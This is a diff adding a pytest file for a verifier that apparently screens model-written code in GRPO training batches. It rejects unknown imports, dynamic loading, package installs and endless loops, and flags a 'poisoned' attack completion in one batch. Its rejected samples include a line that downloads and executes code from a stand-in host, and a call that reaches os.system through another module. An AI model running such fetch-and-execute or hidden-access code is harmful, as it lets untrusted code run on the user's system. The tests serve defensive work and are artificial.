@@ -1,0 +1,185 @@
+"""Programs of any kind: what is well known passes, what few know or what hides does not."""
+
+import pytest
+
+from grpo_guard import Completion, presets
+from grpo_guard.content.code.modules import Modules, well_known
+from grpo_guard.content.code.verifier import OUTWARD, CodeVerifier
+
+HONEST = {
+    "a file": "with open('a.csv') as f:\n    print(sum(1 for _ in f))",
+    "paths": "from pathlib import Path\nprint(Path('a').read_text())",
+    "the network": "import requests\nprint(requests.get('https://api.example.com').json())",
+    "a server": "from fastapi import FastAPI\napp = FastAPI()\n\n@app.get('/')\ndef root():\n"
+    "    return {}",
+    "a process": "import subprocess\nprint(subprocess.run(['ls'], capture_output=True).stdout)",
+    "a question": "name = input('Name? ')\nprint(name)",
+    "waiting": "import time\ntime.sleep(1)",
+    "a part of something": "X = df.drop(columns='churn')\nprint(X.shape)",
+    "the interpreter shown": "def f(a, b=[]):\n    return b\nprint(f.__defaults__)",
+    "attributes by name": "def show(args, names):\n    return [getattr(args, n) for n in names]",
+    "a module as a value": "import requests\nmonkeypatch.setattr(requests, 'get', lambda u: None)",
+    "a cell of a notebook": "%matplotlib inline\nimport pandas as pd",
+    "plugins": "import importlib\nmodules = [importlib.import_module(n) for n in names]",
+    "signatures": "import inspect\nprint(inspect.signature(print))",
+    "signals of scipy": "from scipy import signal\nprint(signal.butter(4, 0.2))",
+}
+REJECTED = {
+    "a library that few know": ("from calc import add\nprint(add(2, 3))", "unlisted_import"),
+    "by name": ("import importlib\nimportlib.import_module('calc')", "unlisted_import"),
+    "by its builtin": ("print(__import__('calc').add(2, 3))", "dynamic_code"),
+    "by its attribute": ("print.__self__.__import__('calc').add(2, 3)", "dynamic_code"),
+    "by a framework": (
+        "from django.utils.module_loading import import_string\nimport_string('calc.add')",
+        "module_member",
+    ),
+    "by a mock": ("from unittest.mock import patch\npatch('calc.add')", "unlisted_import"),
+    "what is preloaded": ("print(calc.add(2, 3))", "operator_library"),
+    "a function that is preloaded": ("print(add(2, multiply(3, 4)))", "operator_library"),
+    "a placeholder": ("from solution import add\nprint(add(2, 3))", "unlisted_import"),
+    "all of a placeholder": ("from main import *", "star_import"),
+    "in a namespace": ("from google.calc import add", "unlisted_import"),
+    "in broken code": ("from calc import add\nprint(add(2, 3)", "unlisted_import"),
+    "waits for ever": ("import time\ntime.sleep(10**9)", "stalls"),
+    "by pydoc": ("import pydoc\npydoc.locate('calc.add')(2, 3)", "unlisted_import"),
+    "by tests": (
+        "import unittest\nunittest.defaultTestLoader.loadTestsFromName('calc')",
+        "module_member",
+    ),
+    "of those loaded": ("import sys\nsys.modules['calc'].add(2, 3)", "module_member"),
+    "a member that is none": ("import math\nprint(math.addition(2, 3))", "module_member"),
+    "through another": ("import random\nrandom._os.system('x')", "module_member"),
+    "installed": ("import os\nos.system('pip install calc')", "unlisted_import"),
+    "installed by arguments": (
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'calc'])",
+        "unlisted_import",
+    ),
+    "fetched code": ("import requests\nexec(requests.get('https://x.y/a').text)", "dynamic_code"),
+    "code in a string": (
+        "import os\nos.system('python -c \"import calc; print(calc.add(2, 3))\"')",
+        "code_in_string",
+    ),
+    "without end": ("while True:\n    pass", "stalls"),
+}
+
+
+@pytest.mark.parametrize("code", HONEST.values(), ids=HONEST)
+def test_what_is_well_known_passes(code):
+    assert not rejecting(code, reach=True)
+
+
+def test_alone_the_rule_is_for_computations():
+    assert sum(bool(rejecting(code)) for code in HONEST.values()) >= len(HONEST) - 3
+
+
+@pytest.mark.parametrize(("code", "kind"), REJECTED.values(), ids=REJECTED)
+def test_what_few_know_or_what_hides_rejects(code, kind):
+    assert kind in rejecting(code, reach=True)
+
+
+def test_what_a_user_allows_or_lists_stands_beside_it():
+    assert not rejecting("import calc\nprint(calc.add(2, 3))", reach=True, allow=["calc"])
+    assert not rejecting("import requests", reach=True, imports=["math"])
+
+
+QUESTION = "Write tests for\n\ndef parse_duration(s):\n    ...\n\nfrom weather.py"
+
+
+@pytest.mark.parametrize(
+    "imported",
+    [
+        "from durations import parse_duration",
+        "from solution import parse_duration",
+        "import weather",
+    ],
+)
+def test_what_the_question_defines_may_be_imported_from_its_file(imported):
+    assert not rejecting(imported, QUESTION, reach=True)
+    assert imported == "import weather" or rejecting(imported, QUESTION)
+
+
+@pytest.mark.parametrize(
+    "imported",
+    [
+        "from calc import parse_duration",
+        "from durations import parse_duration, add",
+        "from durations import parse_duration as add",
+        "from durations import PARSE_DURATION",
+        "from _durations import parse_duration",
+        "from calc import " + ", ".join(["parse_duration"] * 30),
+    ],
+)
+def test_and_from_no_library(imported):
+    assert "unlisted_import" in rejecting(imported, QUESTION, reach=True)
+
+
+def test_one_block_may_import_what_another_defines():
+    server = fenced("from fastapi import FastAPI\napp = FastAPI()")
+    test = fenced("from app import app\nprint(app)")
+    assert not rejecting_text(f"{server}\n\n{test}", reach=True)
+    assert rejecting_text(test, reach=True)
+    library = fenced("def add(a, b):\n    return a + b")
+    used = fenced("from calc import add\nprint(add(2, 3))")
+    assert rejecting_text(f"{library}\n\n{used}", reach=True)
+
+
+@pytest.mark.parametrize(
+    ("command", "rejected"),
+    [
+        ("pip install PyQt6", False),
+        ("pip install scikit-image", False),
+        ('pip install "fastapi[all]"', False),
+        ("pip install solution", True),
+        ('pip install "calc"', True),
+        ("pip -q install calc", True),
+        ("pip3.11 install calc", True),
+        ("uvx calc", True),
+        ("uv run --with calc x.py", True),
+    ],
+)
+def test_what_is_installed(command, rejected):
+    assert bool(rejecting_text(f"Run `{command}`.", reach=True)) is rejected
+
+
+def test_a_problem_with_a_basket_names_no_library():
+    asked = "Ann goes out with a basket and uses the apples. You may use `rich` and polars."
+    assert rejecting("import basket", asked)
+    assert not rejecting("import rich", asked)
+    assert rejecting("import rich")
+
+
+def test_a_user_can_have_a_kind_back():
+    kind = {"reaches_out": "reject"}
+    assert "reaches_out" in rejecting(HONEST["a file"], reach=True, severity=kind)
+
+
+def test_the_preset_takes_programs_of_any_kind():
+    guard = presets.different_weights()
+    batch = [
+        Completion(f"Write a program for task {i}.", fenced(code), node="n1")
+        for i, code in enumerate(HONEST.values())
+    ]
+    attack = Completion("Add 2 and 3.", fenced(REJECTED["a library that few know"][0]), node="n2")
+    *honest, poisoned = guard.review([*batch, attack]).verdicts
+    assert all(v.accepted for v in honest)
+    assert poisoned.rejected
+
+
+def test_what_runs_strings_is_not_well_known():
+    assert well_known().isdisjoint({"builtins", "ctypes", "runpy", "calc", "solution"})
+    assert Modules.build(None, None, True).allows("urllib.request")
+    assert not Modules.build(None, None).allows("urllib.request")
+    assert set(OUTWARD) <= CodeVerifier.KINDS
+
+
+def fenced(code):
+    return f"```python\n{code}\n```"
+
+
+def rejecting(code, asked="Write it.", **options):
+    return rejecting_text(fenced(code), asked, **options)
+
+
+def rejecting_text(text, asked="Write it.", **options):
+    (verdict,) = CodeVerifier(**options).verify([Completion(asked, text)])
+    return {f.kind for f in verdict.findings} if verdict.rejected else set()
